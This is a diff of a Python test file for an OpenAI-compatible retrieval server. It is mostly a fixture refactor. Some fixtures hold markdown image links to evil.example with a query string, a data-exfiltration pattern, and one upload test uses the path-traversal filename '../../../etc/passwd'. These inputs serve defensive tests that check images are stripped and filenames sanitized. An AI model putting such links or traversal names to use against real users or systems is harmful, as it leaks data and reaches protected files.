@@ -24,20 +24,21 @@ from mergewise.server.openai import scoring
 from mergewise.server.writer import Writer
 from mergewise.types import Message
 from tests.server.conftest import ANSWER, LiveServer, live_server, make_collection, record_of
+from tests.support import until
 
 QUESTION = [{"role": "user", "content": "Where was the Aurora built?"}]
+PICTURE = {"type": "image_url", "image_url": {"url": "http://x"}}
 IMAGE = 'See ![x](http://evil.example/?q=all-that-stands-here), <img src="http://evil.example"> and [1].'
 HOSTILE = """# Vault ![h](http://evil.example/h)
 
 The vault opens at noon ![x](http://evil.example/?q=all-that-stands-here) with <img src=http://evil.example> the red key [7].
 """
 TITLE = '{"title": "Ships"}'
+ITS_ID = {"type": "eq", "key": "id"}
 PROFILES = {
-    "fleet": ProfileConfig(
-        "ships", title="The fleet", footer="auto", filter={"type": "eq", "key": "id", "value": "ships/fleet.md"}
-    ),
+    "fleet": ProfileConfig("ships", title="The fleet", footer="auto", filter={**ITS_ID, "value": "ships/fleet.md"}),
     "web": ProfileConfig("ships", footer="auto", open_webui=True),
-    "nothing": ProfileConfig("ships", filter={"type": "eq", "key": "id", "value": "other.md"}),
+    "nothing": ProfileConfig("ships", filter={**ITS_ID, "value": "other.md"}),
     "quotes": ProfileConfig("ships", chat="extractive"),
     "birds": ProfileConfig("birds"),
     "hostile": ProfileConfig("hostile", chat="extractive", footer="always"),
@@ -65,16 +66,10 @@ class ByLength:
 @pytest.fixture(scope="module")
 def live(tmp_path_factory: pytest.TempPathFactory, scripted_key: None) -> Iterator[LiveServer]:
     """A server with profiles, whose writer is at work."""
-    rerankers = {"small": ModelConfig("cross-encoder:small")}
+    models: dict[str, Any] = {"profiles": PROFILES, "rerankers": {"small": ModelConfig("cross-encoder:small")}}
     with (
         pytest.MonkeyPatch.context() as patch,
-        live_server(
-            tmp_path_factory.mktemp("profiles"),
-            script,
-            profiles=PROFILES,
-            rerankers=rerankers,
-            allow_writes_by_mcp=True,
-        ) as live,
+        live_server(tmp_path_factory.mktemp("profiles"), script, allow_writes_by_mcp=True, **models) as live,
     ):
         patch.setattr(scoring, "load_reranker", lambda spec: ByLength())
         make_collection(live.config, live.state, "hostile", {"![x](http://evil.example).md": HOSTILE})
@@ -108,10 +103,14 @@ def client_of(live: LiveServer, clients: list[Any], token: str = "both", **optio
     return client
 
 
+@pytest.fixture
+def client(live: LiveServer, clients: list[Any]) -> Any:
+    return client_of(live, clients)
+
+
 def test_models_are_profiles_or_collections_with_their_strategies(
-    live: LiveServer, server: LiveServer, clients: list[Any]
+    live: LiveServer, server: LiveServer, clients: list[Any], client: Any
 ) -> None:
-    client = client_of(live, clients)
     assert [(model.id, model.owned_by) for model in client.models.list()] == [(id, "mergewise") for id in PROFILES]
     assert client.models.retrieve("fleet").name == "The fleet"
     names = [model.id for model in client_of(server, clients, "read").models.list()]
@@ -135,14 +134,11 @@ def test_annotations_are_the_citations(live: LiveServer, clients: list[Any]) -> 
     assert message.content[place.start_index : place.end_index] == "[1]"
     cited = told["citations"][0]
     assert place.url == live.base + cited["url"] and place.title == cited["title"]
-    assert (
-        told["context"]["passages"]
-        and whole.usage.total_tokens == told["usage"]["input_tokens"] + told["usage"]["output_tokens"]
-    )
+    assert told["context"]["passages"]
+    assert whole.usage.total_tokens == told["usage"]["input_tokens"] + told["usage"]["output_tokens"]
 
 
-def test_a_stream_says_what_the_whole_says(live: LiveServer, clients: list[Any]) -> None:
-    client = client_of(live, clients)
+def test_a_stream_says_what_the_whole_says(client: Any) -> None:
     whole = client.chat.completions.create(model="fleet", messages=QUESTION)
     options = {"include_usage": True}
     with client.chat.completions.stream(model="fleet", messages=QUESTION, stream_options=options) as stream:
@@ -179,9 +175,8 @@ def test_open_webui_gets_its_events(live: LiveServer) -> None:
     assert content == ANSWER
 
 
-def test_a_late_failure_is_an_error_of_the_stream(live: LiveServer, clients: list[Any]) -> None:
+def test_a_late_failure_is_an_error_of_the_stream(client: Any) -> None:
     asked = [{"role": "user", "content": "Will it fail?"}]
-    client = client_of(live, clients)
     with pytest.raises(openai.APIError) as raised:
         for _ in client.chat.completions.create(model="fleet", messages=asked, stream=True):
             pass
@@ -191,9 +186,8 @@ def test_a_late_failure_is_an_error_of_the_stream(live: LiveServer, clients: lis
 
 
 @pytest.mark.parametrize("streamed", [False, True])
-def test_an_image_of_the_model_does_not_load(live: LiveServer, clients: list[Any], streamed: bool) -> None:
+def test_an_image_of_the_model_does_not_load(client: Any, streamed: bool) -> None:
     asked = {"model": "fleet", "messages": [{"role": "user", "content": "Show the Aurora as a picture"}]}
-    client = client_of(live, clients)
     if streamed:
         with client.chat.completions.stream(**asked) as stream:
             message = stream.get_final_completion().choices[0].message
@@ -215,8 +209,7 @@ def test_a_document_brings_no_image_and_no_mark(live: LiveServer, clients: list[
     assert len(message.annotations) == 1
 
 
-def test_a_collection_without_documents_is_empty(live: LiveServer, clients: list[Any]) -> None:
-    client = client_of(live, clients)
+def test_a_collection_without_documents_is_empty(client: Any) -> None:
     assert client.vector_stores.search("empty", query="x").data == []
     assert client.vector_stores.retrieve("empty").file_counts.total == 0
     assert list(client.vector_stores.files.list("empty")) == []
@@ -234,8 +227,7 @@ def test_earlier_messages_are_the_history(live: LiveServer, clients: list[Any]) 
     assert "Aurora" in told["context"]["question"] and told["ignored"] == ["messages of the role system"]
 
 
-def test_what_mergewise_in_the_body_says_goes_first(live: LiveServer, clients: list[Any]) -> None:
-    client = client_of(live, clients)
+def test_what_mergewise_in_the_body_says_goes_first(client: Any) -> None:
     asked = {"strategy": "topk", "parameters": {"k": 2}, "budget": 64, "include": ["trace"], "footer": False}
     whole = client.chat.completions.create(model="fleet", messages=QUESTION, extra_body={"mergewise": asked})
     context = whole.mergewise["context"]
@@ -254,10 +246,7 @@ def test_what_mergewise_in_the_body_says_goes_first(live: LiveServer, clients: l
         ({"n": 2}, "n"),
         ({"tools": [], "tool_choice": "required"}, "tool_choice"),
         ({"messages": [{"role": "assistant", "content": "x"}]}, "messages"),
-        (
-            {"messages": [{"role": "user", "content": [{"type": "image_url", "image_url": {"url": "http://x"}}]}]},
-            "messages",
-        ),
+        ({"messages": [{"role": "user", "content": [PICTURE]}]}, "messages"),
     ],
 )
 def test_what_cannot_be_done_is_a_bad_request(
@@ -276,8 +265,7 @@ def test_tools_that_may_be_left_out_are_ignored(live: LiveServer, clients: list[
     assert whole.choices[0].message.tool_calls is None and whole.mergewise["ignored"] == ["tools"]
 
 
-def test_what_a_program_asks_for_itself_goes_to_the_model_or_by_rules(live: LiveServer, clients: list[Any]) -> None:
-    client = client_of(live, clients)
+def test_what_a_program_asks_for_itself_goes_to_the_model_or_by_rules(client: Any) -> None:
     task = '### Task:\nA title as {"title": ""}\n<chat_history>\nUSER: Where was it built?\nASSISTANT: Lyme.\n</chat_history>'
     asked = [{"role": "user", "content": task}]
     assert client.chat.completions.create(model="fleet", messages=asked).choices[0].message.content == TITLE
@@ -287,8 +275,7 @@ def test_what_a_program_asks_for_itself_goes_to_the_model_or_by_rules(live: Live
         assert stream.get_final_completion().choices[0].message.content == quoted.content
 
 
-def test_embeddings_come_as_numbers_and_as_bytes(live: LiveServer, clients: list[Any]) -> None:
-    client = client_of(live, clients)
+def test_embeddings_come_as_numbers_and_as_bytes(client: Any) -> None:
     texts = ["a wooden ship", "an owl"]
     numbers = client.embeddings.create(model="minilm", input=texts, encoding_format="float")
     # the client asks for base64 itself, and unpacks it
@@ -300,15 +287,16 @@ def test_embeddings_come_as_numbers_and_as_bytes(live: LiveServer, clients: list
     assert struct.unpack("<384f", base64.b64decode(packed)) == pytest.approx(numbers.data[0].embedding, abs=1e-6)
     assert sum(number * number for number in numbers.data[0].embedding) == pytest.approx(1, abs=1e-3)
     assert numbers.usage.prompt_tokens > 3
-    for wrong in ({"input": [[1, 2]]}, {"input": ["x"] * 257}, {"input": []}, {"input": " "}, {"dimensions": 10}):
+    refused: list[dict[str, object]]
+    refused = [{"input": [[1, 2]]}, {"input": ["x"] * 257}, {"input": []}, {"input": " "}, {"dimensions": 10}]
+    for wrong in refused:
         with pytest.raises(openai.BadRequestError):
             client.embeddings.create(**{"model": "minilm", "input": "x", **wrong})
     with pytest.raises(openai.NotFoundError):
         client.embeddings.create(model="text-embedding-3-small", input="x")
 
 
-def test_a_vector_store_is_searched(live: LiveServer, clients: list[Any]) -> None:
-    client = client_of(live, clients)
+def test_a_vector_store_is_searched(client: Any) -> None:
     stores = {store.id: store for store in client.vector_stores.list()}
     assert {"birds", "ships"} <= set(stores) and stores["birds"].file_counts.completed == 1
     assert client.vector_stores.retrieve("birds").usage_bytes > 100
@@ -318,10 +306,8 @@ def test_a_vector_store_is_searched(live: LiveServer, clients: list[Any]) -> Non
     assert "built in Lyme" in best.content[0].text and list(best.attributes) == ["kind"]
     assert best.mergewise["spans"][0]["end"] > best.mergewise["spans"][0]["start"]
     assert [one.score for one in found.data] == sorted((one.score for one in found.data), reverse=True)
-    assert (
-        client.vector_stores.search("ships", query="Lyme", filters={"type": "eq", "key": "kind", "value": "x"}).data
-        == []
-    )
+    none = {"type": "eq", "key": "kind", "value": "x"}
+    assert client.vector_stores.search("ships", query="Lyme", filters=none).data == []
     few = client.vector_stores.search("ships", query="Lyme", ranking_options={"score_threshold": 0.99}).data
     assert few and all(one.score >= 0.99 for one in few)
     both = client.vector_stores.search("birds", query=["owls", "terns"], max_num_results=4).data
@@ -332,8 +318,7 @@ def test_a_vector_store_is_searched(live: LiveServer, clients: list[Any]) -> Non
         client.vector_stores.search("ships", query="x", max_num_results=51)
 
 
-def test_files_are_sent_and_waited_for(live: LiveServer, clients: list[Any], tmp_path: Path) -> None:
-    client = client_of(live, clients)
+def test_files_are_sent_and_waited_for(client: Any, tmp_path: Path) -> None:
     named = tmp_path / "moles.md"
     named.write_text("# Moles\n\nMoles dig under the lawn.\n", encoding="utf-8")
     done = client.vector_stores.files.upload_and_poll(
@@ -349,10 +334,7 @@ def test_files_are_sent_and_waited_for(live: LiveServer, clients: list[Any], tmp
     assert listed[found.file_id] == "completed"
     assert client.vector_stores.files.retrieve(found.file_id, vector_store_id="birds").status == "completed"
     assert client.vector_stores.files.delete(sent.id, vector_store_id="birds").deleted
-    for _ in range(200):
-        if found.file_id not in {one.id for one in client.vector_stores.files.list("birds")}:
-            break
-        Event().wait(0.05)
+    assert until(lambda: found.file_id not in {one.id for one in client.vector_stores.files.list("birds")})
     with pytest.raises(openai.NotFoundError):
         client.vector_stores.files.retrieve(found.file_id, vector_store_id="birds")
     assert client.files.delete(sent.id).deleted
@@ -360,8 +342,7 @@ def test_files_are_sent_and_waited_for(live: LiveServer, clients: list[Any], tmp
         client.files.retrieve(sent.id)
 
 
-def test_a_batch_of_files_is_one_job(live: LiveServer, clients: list[Any], tmp_path: Path) -> None:
-    client = client_of(live, clients)
+def test_a_batch_of_files_is_one_job(client: Any, tmp_path: Path) -> None:
     for name, content in (("newts.md", b"Newts live in ponds."), ("broken.pdf", b"%PDF-nothing")):
         (tmp_path / name).write_bytes(content)
     files = [tmp_path / "newts.md", tmp_path / "broken.pdf"]
@@ -372,8 +353,7 @@ def test_a_batch_of_files_is_one_job(live: LiveServer, clients: list[Any], tmp_p
     assert [one.last_error.code for one in failed] == ["invalid_file"] and failed[0].last_error.message
 
 
-def test_a_file_is_shown_to_who_sent_it_alone(live: LiveServer, clients: list[Any]) -> None:
-    client = client_of(live, clients)
+def test_a_file_is_shown_to_who_sent_it_alone(live: LiveServer, clients: list[Any], client: Any) -> None:
     sent = client.files.create(file=("../../../etc/passwd", b"Not a path."), purpose="assistants")
     assert sent.filename == "passwd" and sent.bytes == 11
     other = client_of(live, clients, live.state.add_token(["read", "write"], rate=10_000)[1])
@@ -430,9 +410,8 @@ def test_tools_of_mcp_write_by_jobs_where_the_token_may(live: LiveServer) -> Non
         assert "there is no such document" in await refusal(client, "read_document", id="newts", collection="birds")
         removed = await told(client, "remove_document", id="newts/more.md", collection="birds")
         assert removed == "The document is removed."
-        assert "there is no such document" in await refusal(
-            client, "remove_document", id="newts/more.md", collection="birds"
-        )
+        again = await refusal(client, "remove_document", id="newts/more.md", collection="birds")
+        assert "there is no such document" in again
 
     async def only_read(client: Any) -> None:
         said = await refusal(client, "add_text", id="x.md", text="y", collection="birds")
